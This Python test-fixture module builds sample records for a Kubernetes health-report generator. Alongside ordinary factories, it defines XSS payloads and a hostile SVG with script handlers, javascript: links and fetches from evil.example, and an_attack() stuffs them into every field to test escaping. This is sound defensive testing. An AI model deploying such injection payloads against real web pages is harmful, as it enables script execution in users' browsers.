"""Records to make pages of, piece by piece; and one full of hostile text, one with too much of everything."""

from datetime import UTC, date, datetime, timedelta
from typing import Any

from domino_health.facts.observed import Observed, Outcome, Seen
from domino_health.facts.previous import PreviousFinding, PreviousRun
from domino_health.gate import decide
from domino_health.redact import Redactor
from domino_health.reports.record import Record, Replay
from domino_health.results import Result, State
from domino_health.rules import Entry, Gate, Standing, Waived, Waiver
from domino_health.vocabulary import Attachment, Finding, Ref, Severity, Unseen

BEGAN = datetime(2026, 11, 24, 3, 12, 44, tzinfo=UTC)

RULE = """\
rules:
- apiGroups: [""]
  resources: [persistentvolumeclaims]
  verbs: [get, list]"""


def a_ref(name: str = "nucleus-frontend", cluster: str = "prod-1", kind: str = "deployment") -> Ref:
    return Ref(cluster, kind, "domino-platform", name)


def a_finding(message: str = "2 of 3 replicas", severity: Severity = Severity.HIGH, **more: Any) -> Finding:
    defaults: dict[str, Any] = {"subject": a_ref(), "message": message, "severity": severity}
    return Finding(**{**defaults, **more})


def a_result(id: str = "SCHED-001", state: State = State.PASSED, **more: Any) -> Result:
    defaults: dict[str, Any] = {
        "id": id,
        "title": "No pod waits longer than ``max_wait`` for a node.",
        "area": id.rpartition("-")[0],
        "severity": Severity.HIGH,
        "state": state,
        "reason": f"it {state.value}",
        "closes": state is State.FAILED,
        "population": 12,
        "rationale": "A pod without a node is a workspace that somebody is waiting for.\n\nThresholds: ours.",
        "remediation": "raise the node pool's maximum or lower the hardware tier's request.",
        "test": f"checks/test_{id.lower()}.py::test_it",
    }
    return Result(**{**defaults, **more})


def a_waiver(check: str = "SCHED-001", subject: str = "deployment/*", **more: Any) -> Waiver:
    defaults: dict[str, Any] = {
        "reason": "accepted for now",
        "owner": "platform team",
        "approved_by": "Ada Lovelace",
        "expires": date(2026, 12, 31),
    }
    return Waiver(check, subject, **{**defaults, **more})


def an_entry(
    standing: Standing = Standing.USED, findings: int = 1, days_left: int = 37, **waiver: Any
) -> Entry:
    waived = a_waiver(**{"expires": BEGAN.date() + timedelta(days=days_left), **waiver})
    covered = tuple(f"prod-1: deployment/domino-platform/d-{n}" for n in range(findings))
    return Entry(waived, standing, findings, days_left, covered)


def previous(*findings: PreviousFinding, **more: Any) -> PreviousRun:
    """The run of the day before, which found these."""
    defaults: dict[str, Any] = {"gate": "default", "exit_status": 1, "states": {}}
    began = BEGAN - timedelta(days=1)
    return PreviousRun(folder="2026-11-23T031244Z", began=began, findings=findings, **{**defaults, **more})


def seen_before(run: PreviousRun) -> dict[str, Observed]:
    """The fact that tells of it."""
    return {"previous": Observed("previous", (a_seen("latest", objects=(run,)),))}


def a_seen(target: str = "prod-1", outcome: Outcome = Outcome.SEEN, **more: Any) -> Seen:
    defaults: dict[str, Any] = {
        "how": f"GET https://{target}/api/v1/pods?limit=500",
        "at": BEGAN,
        "seconds": 0.4,
    }
    return Seen(target=target, outcome=outcome, **{**defaults, **more})


def a_record(*results: Result, known: int = 0, pytest_status: int = 0, **more: Any) -> Record:
    closes_first = tuple(sorted(results, key=lambda result: (not result.closes, result.id)))
    verdict = decide(
        closes_first,
        selected=[result.id for result in results],
        known=[f"TST-{number:03}" for number in range(known or len(results))],
        gate=Gate(),
        pytest_status=pytest_status,
    )
    defaults: dict[str, Any] = {
        "profile": "prod",
        "description": "Production, both clusters",
        "source": "profiles/prod.yaml",
        "resolved": "version: 1\nclusters:\n- name: prod-1\n  context: prod-1\n",
        "began": BEGAN,
        "finished": BEGAN + timedelta(seconds=41),
        "skew": 0,
        "clock": "this machine",
        "verdict": verdict,
        "results": closes_first,
        "observed": {},
        "many_clusters": False,
        "runbooks": {},
        "redactor": Redactor(),
        "version": "0.1.0",
    }
    return Record(**{**defaults, **more})


def many_findings(number: int) -> tuple[Finding, ...]:
    return tuple(
        Finding(
            a_ref(f"type=Workspace,tier=large-{n},environment=5f3c0b,project=churn-{n}", kind="execution"),
            f"{n} pods without a node for up to 52 m, at most 10 m: insufficient cpu. Scheduler: 0/41 nodes "
            "are available: 3 node(s) had untolerated taint {dominodatalab.com/gpu: true}, 38 Insufficient",
            Severity.CRITICAL if n < 3 else Severity.HIGH,
            count=n + 1,
            examples=(a_ref(f"run-65a1b2c3d4e5f6-{n}", kind="pod"),),
        )
        for n in range(number)
    )


HOSTILE = (
    "<script>document.title='owned'</script><img src=https://evil.example/x onerror=document.title='owned'>"
    "\"'><svg onload=document.title='owned'> {{ 7 * 7 }} {% raw %} \x1b[31mred\x1b[0m \x00 \ud800 \uffff "
    "\u202egnirts\u2066 ]]> --></style></details></main></template> ``code"
)

HOSTILE_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20"
  onload="top.document.title='owned'">
<script>top.document.title='owned'; fetch('https://evil.example/script')</script>
<style>@import url(https://evil.example/style.css); rect { fill: url(https://evil.example/fill.svg) }</style>
<image href="https://evil.example/image.png" xlink:href="https://evil.example/old.png" width="9" height="9"/>
<use href="https://evil.example/use.svg#a"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>
</foreignObject>
<a href="javascript:top.document.title='owned'"><rect width="40" height="20" onclick="alert(1)"/></a>
<animate onbegin="alert(1)" attributeName="x" dur="1s"/>
</svg>"""
"""A picture that would run scripts, and load things, were it more than a picture."""


def an_attack() -> Record:
    """The same hostile text, longer than any screen, in every place that a text can come from."""
    text = HOSTILE + "A" * 20_000
    ref = Ref(text, text, text, text)
    unseen = Unseen(text, text, text, text, text)
    common: dict[str, Any] = {"title": text, "reason": text, "worst": text, "window": text}
    common |= {"rationale": text, "remediation": text, "test": text, "details": text}
    common |= {"thresholds": {text: text}, "unseen": (unseen,)}
    common |= {"findings": (Finding(ref, text, Severity.HIGH, 2, (ref,)),)}
    waiver = a_waiver(text, text, reason=text, owner=text, approved_by=text, ticket=text, source=text)
    common |= {"waived": (Waived(Finding(ref, text, Severity.HIGH), waiver),), "controls": (text, text)}
    common |= {"notes": text, "attachments": (an_attached_attack(text),)}
    results = [
        a_result(f"EVIL-00{number}", state, area=text[:500], **common) for number, state in enumerate(State)
    ]
    before = previous(
        PreviousFinding(text, text, text),
        PreviousFinding("EVIL-000", text, text, waived=True),
        gate=text,
        states={text: text, **{f"EVIL-00{number}": "passed" for number in range(len(State))}},
    )
    seen = a_seen(text, Outcome.FAILED, how=text, reason=text, cure=text, details=text)
    return a_record(
        *results,
        profile=text[:500],
        description=text,
        source=text,
        resolved=text,
        clock=text,
        version=text,
        observed={
            text: Observed(text, (seen,)),
            "absent": Observed("absent", (), text),
            **seen_before(before),
        },
        many_clusters=True,
        ledger=tuple(Entry(waiver, standing, 1, -1, (text,)) for standing in Standing),
        runbooks={f"EVIL-00{number}": text for number in range(len(State))},
        notes={f"EVIL-00{number}": text for number in range(len(State))},
        replay=Replay(text, verified=False, profile=text, recorded_exit_status=0),
    )


def an_attached_attack(text: str) -> Attachment:
    """Text wherever an attachment has any, and a picture that would do harm."""
    return Attachment(text, (text, text), ((text, text),), HOSTILE_SVG)


def too_much() -> Record:
    """Every check has more findings than anybody reads."""
    failed = (
        a_result(f"CAP-{n:03}", State.FAILED, reason="1,000 findings", findings=many_findings(1000))
        for n in range(80)
    )
    return a_record(*failed)
